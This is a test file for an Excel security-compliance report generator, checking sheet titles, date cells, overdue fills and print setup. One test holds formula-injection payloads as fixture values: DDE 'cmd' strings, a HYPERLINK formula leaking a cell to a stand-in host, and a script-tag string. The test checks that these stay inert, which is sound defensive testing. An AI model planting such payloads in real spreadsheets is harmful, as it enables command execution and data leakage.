// The Excel report, read back with exceljs: sheet names and column titles in the chosen language,
// real date cells, frozen and filterable header rows, overdue rows filled, the figures of the
// 41-system fixture, and no cell that Excel would run as a formula.
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { runCli, systemYaml, tempDir } from '../helpers.js';

const dir = mkdtempSync(path.join(tmpdir(), 'attt-report-xlsx-'));
const books: Record<string, ExcelJS.Workbook> = {};

async function makeWorkbook(name: string, args: string[]): Promise<ExcelJS.Workbook> {
  const output = path.join(dir, name);
  const { code } = await runCli(['report', ...args, '--as-of', '2024-12-26', '--format', 'xlsx', '--output', output]);
  expect(code).toBe(0);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(output);
  return workbook;
}

beforeAll(async () => {
  books.vi = await makeWorkbook('most-vi.xlsx', ['fixtures/most', '--lang', 'vi']);
  books.en = await makeWorkbook('most-en.xlsx', ['fixtures/most', '--lang', 'en']);
  books.xss = await makeWorkbook('xss.xlsx', ['fixtures/report', '--lang', 'vi']);
}, 60_000);

const utc = (iso: string): Date => new Date(`${iso}T00:00:00Z`);
const RED = 'FFFDE8E8';

function sheet(book: string, name: string): ExcelJS.Worksheet {
  const found = books[book]!.getWorksheet(name);
  if (!found) throw new Error(`no sheet "${name}" in ${book}`);
  return found;
}

function headers(ws: ExcelJS.Worksheet): string[] {
  return (ws.getRow(1).values as unknown[]).slice(1) as string[];
}

/** The data row whose cell in `column` (a header title) equals `value`. */
function rowWhere(ws: ExcelJS.Worksheet, column: string, value: unknown): ExcelJS.Row {
  const index = headers(ws).indexOf(column) + 1;
  for (let r = 2; r <= ws.rowCount; r += 1) if (ws.getRow(r).getCell(index).value === value) return ws.getRow(r);
  throw new Error(`no row with ${column} = ${String(value)}`);
}

function cellOf(ws: ExcelJS.Worksheet, row: ExcelJS.Row, column: string): ExcelJS.Cell {
  const index = headers(ws).indexOf(column) + 1;
  if (index === 0) throw new Error(`no column "${column}"`);
  return row.getCell(index);
}

function fillOf(cell: ExcelJS.Cell): string | undefined {
  const fill = cell.fill as ExcelJS.FillPattern | undefined;
  return fill?.fgColor?.argb;
}

describe('Excel report', () => {
  it('has the six sheets, titled in the chosen language', () => {
    expect(books.vi!.worksheets.map((ws) => ws.name)).toEqual(['Tổng hợp', 'Theo đơn vị', 'Phát hiện', 'Hệ thống', 'Ma trận 4 lớp', 'Kế hoạch']);
    expect(books.en!.worksheets.map((ws) => ws.name)).toEqual(['Summary', 'By owner unit', 'Findings', 'Systems', '4-layer matrix', 'Plan']);
    expect(headers(sheet('vi', 'Phát hiện')).slice(0, 8)).toEqual(['Đơn vị', 'Mã hệ thống', 'Tên hệ thống', 'Mức độ', 'Đã miễn trừ', 'Mã quy tắc', 'Nội dung quy tắc', 'Phát hiện']);
    expect(headers(sheet('en', 'Plan')).slice(0, 5)).toEqual(['Due', 'Days left', 'Overdue', 'Task', 'System']);
    expect(headers(sheet('en', '4-layer matrix'))).toEqual([
      'Owner unit', 'System', 'System name', 'Level',
      'Layer 1 · on-site force', 'Layer 2 · professional monitoring', 'Layer 3 · independent audit', 'Layer 4 · connected to NCSC', 'All 4',
    ]);
  });

  it('freezes and filters the header row of every list sheet, with widths that fit', () => {
    for (const [name, rows, lastColumn] of [
      ['Theo đơn vị', 16, 'Y'],
      ['Phát hiện', 153, 'O'],
      ['Hệ thống', 42, 'U'],
      ['Ma trận 4 lớp', 42, 'I'],
      ['Kế hoạch', 151, 'M'],
    ] as const) {
      const ws = sheet('vi', name);
      expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
      expect(ws.autoFilter).toBe(`A1:${lastColumn}${rows}`);
      expect(ws.rowCount).toBe(rows);
      for (const column of ws.columns) {
        expect(column.width).toBeGreaterThanOrEqual(10);
        expect(column.width).toBeLessThanOrEqual(60);
      }
    }
    expect(sheet('vi', 'Hệ thống').getColumn(2).width).toBeGreaterThan(30);
  });

  it('summarises the figures against the targets: 13/41 approved, 8/41 plan deployed, 6/41 NCSC', () => {
    const ws = sheet('vi', 'Tổng hợp');
    const rowOf = (title: string): ExcelJS.Row => {
      for (let r = 1; r <= ws.rowCount; r += 1) if (ws.getRow(r).getCell(1).value === title) return ws.getRow(r);
      throw new Error(`no row ${title}`);
    };
    const find = (title: string): unknown[] => (rowOf(title).values as unknown[]).slice(1);
    const approved = find('Được phê duyệt cấp độ');
    expect(approved.slice(0, 3)).toEqual(['Được phê duyệt cấp độ', 13, 41]);
    expect(approved[3]).toBeCloseTo(13 / 41, 3);
    expect(approved.slice(4, 8)).toEqual([1, utc('2024-09-30'), 28, 'không']);
    expect(find('Đã triển khai phương án bảo đảm ATTT').slice(1, 3)).toEqual([8, 41]);
    expect(find('Lớp 4 · kết nối giám sát quốc gia (NCSC)').slice(1, 3)).toEqual([6, 41]);
    expect(find('Kiểm tra định kỳ chưa quá hạn').slice(1, 3)).toEqual([10, 13]);
    expect(find('Diễn tập thực chiến đúng hạn').slice(1, 3)).toEqual([5, 8]);
    expect(find('Ngày đánh giá')[1]).toEqual(utc('2024-12-26'));
    // 142 errors, 8 warnings: two are inventory/future-date (most-lgsp's audit and drill planned for 2025, after the test clock's 2024-12-26).
    expect(find('Phát hiện chưa xử lý')[1]).toBe('142 lỗi · 8 cảnh báo · 2 đã miễn trừ');
    expect(rowOf('Được phê duyệt cấp độ').getCell(4).numFmt).toBe('0.0%');
    expect(rowOf('Được phê duyệt cấp độ').getCell(6).numFmt).toBe('dd/mm/yyyy');
  });

  it('writes dates as date cells, formatted for the language', () => {
    const vi = sheet('vi', 'Hệ thống');
    const qlvb = rowWhere(vi, 'Mã hệ thống', 'most-qlvb');
    const expected: Record<string, string> = {
      'Ngày phê duyệt': '2022-03-15',
      'Ngày đưa vào sử dụng': '2023-04-03',
      'Ngày kết luận an toàn': '2023-03-24',
      'Kiểm tra gần nhất': '2024-11-18',
      'Hạn kiểm tra tiếp theo': '2025-11-18',
      'Diễn tập gần nhất': '2024-10-15',
      'Hạn diễn tập tiếp theo': '2025-10-15',
    };
    for (const [column, date] of Object.entries(expected)) {
      const cell = cellOf(vi, qlvb, column);
      expect(cell.type).toBe(ExcelJS.ValueType.Date);
      expect(cell.value).toEqual(utc(date));
      expect(cell.numFmt).toBe('dd/mm/yyyy');
    }
    const en = sheet('en', 'Systems');
    const cell = cellOf(en, rowWhere(en, 'System', 'most-qlvb'), 'Next audit due');
    expect(cell.value).toEqual(utc('2025-11-18'));
    expect(cell.numFmt).toBe('yyyy-mm-dd');
    expect(cellOf(vi, qlvb, 'Cấp độ').value).toBe(3);
  });

  it('lists every finding, and fills overdue rows red', () => {
    const ws = sheet('vi', 'Phát hiện');
    const rows = Array.from({ length: ws.rowCount - 1 }, (_, i) => ws.getRow(i + 2));
    const value = (row: ExcelJS.Row, column: string): unknown => cellOf(ws, row, column).value;
    expect(rows.filter((r) => value(r, 'Mức độ') === 'lỗi' && value(r, 'Đã miễn trừ') === 'không')).toHaveLength(142);
    expect(rows.filter((r) => value(r, 'Mức độ') === 'cảnh báo' && value(r, 'Đã miễn trừ') === 'không')).toHaveLength(8);
    expect(rows.filter((r) => value(r, 'Đã miễn trừ') === 'có')).toHaveLength(2);
    const overdue = rows.filter((r) => value(r, 'Mã quy tắc') === 'cadence/overdue');
    // Sorted by owner unit (Vietnamese order), then system.
    expect(overdue.map((r) => [value(r, 'Đơn vị'), value(r, 'Mã hệ thống'), value(r, 'Hạn')])).toEqual([
      ['Trung tâm Công nghệ thông tin', 'most-cttdt', utc('2024-12-05')],
      ['Trung tâm Công nghệ thông tin', 'most-lgsp', utc('2024-12-20')],
      ['Vụ Kế hoạch - Tài chính', 'most-ketoan', utc('2024-06-30')],
    ]);
    for (const row of overdue) expect(fillOf(cellOf(ws, row, 'Phát hiện'))).toBe(RED);
    expect(fillOf(cellOf(ws, rows[0]!, 'Phát hiện'))).toBeUndefined();
    // Messages read with Vietnamese dates.
    expect(value(overdue[0]!, 'Phát hiện')).toBe('quá hạn kiểm tra, đánh giá định kỳ từ 06/12/2024 (cấp độ 3: 12 tháng/lần; lần kiểm tra gần nhất 05/12/2023)');
  });

  it('puts the 4-layer matrix and the next-quarter plan in their sheets', () => {
    const matrix = sheet('vi', 'Ma trận 4 lớp');
    const lgsp = rowWhere(matrix, 'Mã hệ thống', 'most-lgsp');
    expect((lgsp.values as unknown[]).slice(4)).toEqual([3, 'có', 'có', 'đã hết hiệu lực', 'có', 'không']);
    expect(fillOf(lgsp.getCell(7))).toBe('FFFFF3D6');

    const plan = sheet('en', 'Plan');
    const rows = Array.from({ length: plan.rowCount - 1 }, (_, i) => plan.getRow(i + 2));
    // Open findings with no date come first: overdue, with empty due date and days.
    const undated = rows.filter((row) => row.getCell(1).value === null);
    expect(undated.length).toBeGreaterThan(100);
    expect((undated[0]!.values as unknown[]).slice(1, 6)).toEqual([undefined, undefined, 'yes', 'Put a protection layer in place', 'most-atbx-cap-phep']);
    expect(fillOf(undated[0]!.getCell(1))).toBe(RED);
    const first = rows[undated.length]!;
    expect((first.values as unknown[]).slice(1, 6)).toEqual([utc('2013-05-20'), -4238, 'yes', 'Security conclusion before go-live', 'most-email']);
    expect(fillOf(first.getCell(1))).toBe(RED);
    const audit = rowWhere(plan, 'System', 'most-hatang-dc');
    expect((audit.values as unknown[]).slice(1, 5)).toEqual([utc('2024-12-27'), 1, 'no', 'Real-combat drill']);
    expect(fillOf(audit.getCell(1))).toBeUndefined();
    const dues = rows.slice(undated.length).map((row) => row.getCell(1).value as Date);
    expect(dues.every((d, i) => i === 0 || d >= dues[i - 1]!)).toBe(true);
    expect(dues.at(-1)! <= utc('2025-03-31')).toBe(true);
  });

  it('never writes a formula: text that looks like one is a text cell in Text format', () => {
    let guarded = 0;
    for (const ws of books.xss!.worksheets) {
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof cell.value === 'string' && /^[=+\-@\t\r]/.test(cell.value)) {
            expect(cell.type).toBe(ExcelJS.ValueType.String);
            expect(cell.numFmt).toBe('@');
            guarded += 1;
          }
        }),
      );
    }
    expect(guarded).toBeGreaterThanOrEqual(8);
    const systems = sheet('xss', 'Hệ thống');
    const hostile = rowWhere(systems, 'Mã hệ thống', '<script>alert("id")</script>');
    expect(cellOf(systems, hostile, 'Tên hệ thống').value).toBe('=HYPERLINK("https://example.invalid/?leak="&A1,"Bấm vào đây")');
    expect(cellOf(systems, hostile, 'Đơn vị').value).toBe("+cmd|' /C calc'!A0");
    const at = rowWhere(systems, 'Mã hệ thống', 'formula-at');
    expect(cellOf(systems, at, 'Tên hệ thống').value).toBe("@SUM(1+1)*cmd|' /C calc'!A0");
    expect(cellOf(systems, at, 'Đơn vị').value).toBe("-2+3+cmd|' /C calc'!A0");
    expect(cellOf(systems, at, 'Quyết định phê duyệt').value).toBe("=cmd|' /C calc'!A0");
    // Ordinary text keeps the General format; numbers the tool computed stay numbers.
    expect(cellOf(systems, rowWhere(systems, 'Mã hệ thống', 'xss-name'), 'Tên hệ thống').numFmt).toBeUndefined();
    const xssPlan = sheet('xss', 'Kế hoạch');
    const firstDated = Array.from({ length: xssPlan.rowCount - 1 }, (_, i) => xssPlan.getRow(i + 2)).find((row) => row.getCell(1).value !== null)!;
    const days = firstDated.getCell(2);
    expect(days.type).toBe(ExcelJS.ValueType.Number);
    expect(days.value as number).toBeLessThan(0);
  });

  it('has a by-owner-unit sheet with the figures of `gap`, counts and shares, and the whole inventory last', () => {
    const ws = sheet('vi', 'Theo đơn vị');
    expect(headers(ws).slice(0, 6)).toEqual(['Đơn vị', 'Số hệ thống', 'Đang vận hành', 'Phê duyệt', 'Phê duyệt (%)', 'Phương án']);
    expect(headers(ws).slice(-2)).toEqual(['Lỗi', 'Cảnh báo']);
    const cuc = rowWhere(ws, 'Đơn vị', 'Cục Sở hữu trí tuệ');
    expect(cellOf(ws, cuc, 'Số hệ thống').value).toBe(4);
    expect(cellOf(ws, cuc, 'Phê duyệt').value).toBe(1);
    expect(cellOf(ws, cuc, 'Phê duyệt (%)').value).toBe(0.25);
    expect(cellOf(ws, cuc, 'Phê duyệt (%)').numFmt).toBe('0.0%');
    const total = ws.getRow(ws.rowCount);
    expect((total.values as unknown[]).slice(1, 6)).toEqual(['Toàn bộ', 41, 41, 13, 0.317]);
    expect(total.getCell(1).font?.bold).toBe(true);
    expect(cellOf(ws, total, 'Kiểm tra').value).toBe(10);
    expect(cellOf(ws, total, 'Kiểm tra (trên tổng số)').value).toBe(13);
    expect(cellOf(ws, total, 'Lỗi').value).toBe(142);
    expect(headers(sheet('en', 'By owner unit')).slice(0, 5)).toEqual(['Owner unit', 'Systems', 'Operating', 'Approved', 'Approved (%)']);
  });

  it('sets up every sheet for printing: A4 landscape, one page wide, header row repeated, title and date in the page header', () => {
    for (const [book, date] of [
      ['vi', 'Ngày đánh giá: 26/12/2024'],
      ['en', 'Evaluation date: 2024-12-26'],
    ] as const) {
      for (const ws of books[book]!.worksheets) {
        expect(ws.pageSetup).toMatchObject({ paperSize: 9, orientation: 'landscape', fitToPage: true, fitToWidth: 1, fitToHeight: 0 });
        // The summary has no header row to repeat; every list sheet repeats its first row.
        expect(ws.pageSetup.printTitlesRow).toBe(ws.name === 'Tổng hợp' || ws.name === 'Summary' ? undefined : '1:1');
        expect(ws.headerFooter.oddHeader).toBe(`&L${book === 'vi' ? 'Báo cáo an toàn hệ thống thông tin theo cấp độ' : 'Information-system security compliance report'} · Bộ Khoa học và Công nghệ&R${date}`);
        expect(ws.headerFooter.oddFooter).toBe('&C&P / &N');
      }
    }
  });

  it('writes the creation time as a date-and-time cell in the report time zone', () => {
    const ws = sheet('vi', 'Tổng hợp');
    let row: ExcelJS.Row | undefined;
    for (let r = 1; r <= ws.rowCount; r += 1) if (ws.getRow(r).getCell(1).value === 'Lập lúc') row = ws.getRow(r);
    // The test clock is 2024-12-26T03:00Z: 10:00 in Hanoi, stored as Excel stores wall-clock time.
    expect(row!.getCell(2).value).toEqual(new Date('2024-12-26T10:00:00Z'));
    expect(row!.getCell(2).numFmt).toBe('dd/mm/yyyy hh:mm');
    expect(row!.getCell(3).value).toBe('Asia/Ho_Chi_Minh');
  });

  it('doubles "&" in the page header (a code there) and states the period of --quarter', async () => {
    const cwd = tempDir({ 'inventory.yaml': ['organization: Bộ KH&CN', 'systems:', systemYaml('a', 'level: 2\napproval: {decision: QĐ 1, date: 2024-01-10}')].join('\n') });
    const { code } = await runCli(['report', 'inventory.yaml', '--quarter', '2024-Q3', '--lang', 'vi', '-o', 'q.xlsx'], { cwd });
    expect(code).toBe(0);
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(path.join(cwd, 'q.xlsx'));
    expect(book.worksheets[0]!.headerFooter.oddHeader).toBe(
      '&LBáo cáo an toàn hệ thống thông tin theo cấp độ · Bộ KH&&CN&RQuý 3/2024 (từ 01/07/2024 đến 30/09/2024) · Ngày đánh giá: 30/09/2024',
    );
    const summary = book.getWorksheet('Tổng hợp')!;
    expect((summary.getRow(3).values as unknown[]).slice(1, 3)).toEqual(['Kỳ báo cáo', 'Quý 3/2024 (từ 01/07/2024 đến 30/09/2024)']);
  });
});
